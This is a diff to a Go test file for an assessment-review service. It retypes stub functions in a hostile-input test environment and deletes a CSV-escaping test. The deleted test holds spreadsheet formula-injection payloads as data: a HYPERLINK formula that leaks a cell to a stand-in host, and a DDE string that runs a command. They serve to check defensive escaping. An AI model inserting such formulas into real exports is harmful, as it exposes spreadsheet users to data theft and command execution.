@@ -39,14 +39,14 @@ func hostileEnv() (*Env, *bytes.Buffer, *bytes.Buffer) {
 			Files: []assessment.VerifyFile{{Path: "evidence/ab-" + hostile, Role: "evidence", Size: 1, OriginalName: hostile}}}, nil
 	}
 	a := &AsesorDeps{
-		ReviewSheet: func(_ context.Context, _, id string) (ReviewSheet, error) {
-			return ReviewSheet{BundleID: id, OPDKode: "DISKOMINFO", OPDNama: hostile, Index: "2.5", Rows: []ReviewSheetRow{{
+		ReviewSheet: func(_ context.Context, _, id string) (assessment.ReviewBundle, []assessment.ReviewItem, error) {
+			return assessment.ReviewBundle{BundleID: id, OPDKode: "DISKOMINFO", OPDNama: hostile, Index: "2.5"}, []assessment.ReviewItem{{
 				Indicator: 1, Answered: true, Level: 3, Justification: hostile,
-				Evidence: []ReviewEvidence{{OriginalName: hostile, Note: hostile, Level: 3, SHA256: "ab"}},
-				Review:   &ReviewEntry{Status: "revisi", Note: hostile}}}}, nil
+				Evidence: []assessment.ReviewEvidence{{Name: hostile, Note: hostile, Level: 3, SHA256: "ab"}},
+				Reviewed: true, Status: "revisi", Note: hostile}}, nil
 		},
-		Bundles: func(context.Context, string) ([]StoredBundle, error) {
-			return []StoredBundle{{BundleID: "b1", OPDKode: hostile, OPDNama: hostile, CreatedAt: hostile, Periode: 2026}}, nil
+		Bundles: func(context.Context, string) ([]assessment.ReviewBundle, error) {
+			return []assessment.ReviewBundle{{BundleID: "b1", OPDKode: hostile, OPDNama: hostile, CreatedAt: hostile, Periode: 2026}}, nil
 		},
 		Recap: func(context.Context, string) ([]assessment.RecapRow, error) {
 			return nil, errors.New("gagal: " + hostile)
@@ -106,31 +106,5 @@ func TestInertWriterKeepsSplitRunes(t *testing.T) {
 	}
 	if strings.ContainsRune(b.String(), utf8.RuneError) || strings.ContainsRune(b.String(), 0x1b) {
 		t.Fatalf("%q", b.String())
-	}
-}
-
-// TestCSVCellsNeutralised (issue 11, class 9): a cell a spreadsheet would
-// run as a formula is written as text; numbers stay numbers.
-func TestCSVCellsNeutralised(t *testing.T) {
-	var b bytes.Buffer
-	rows := []assessment.RecapRow{{OPDKode: "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", OPDNama: "+cmd|' /C calc'!A0", Instansi: "@SUM(1+1)",
-		Predicate: "-2+3", KeyID: "\tx", BundleID: "\rx", Periode: 2026, Index: "2.5", ClaimedIndex: "-1"}}
-	if err := WriteRecapCSV(&b, rows); err != nil {
-		t.Fatal(err)
-	}
-	got := strings.Split(b.String(), "\n")[1]
-	for _, want := range []string{`"'=HYPERLINK(""http://x.test/?""&A1,""klik"")"`, `'+cmd|' /C calc'!A0`, "'@SUM(1+1)", "'-2+3",
-		"'\tx", "\"'\rx\"", ",2026,2.5,", ",-1,"} {
-		if !strings.Contains(got, want) {
-			t.Errorf("recap row lacks %q:\n%s", want, got)
-		}
-	}
-	b.Reset()
-	c := Consolidation{Periode: 2026, Rows: []ConsolidationRow{{Indicator: 1, Value: "3", Note: "=1+1", SetBy: "@x"}}}
-	if err := WriteConsolidationCSV(&b, c); err != nil {
-		t.Fatal(err)
-	}
-	if !strings.Contains(b.String(), "'=1+1") || !strings.Contains(b.String(), "'@x") || !strings.Contains(b.String(), "2026,1,3,") {
-		t.Fatalf("consolidation:\n%s", b.String())
 	}
 }
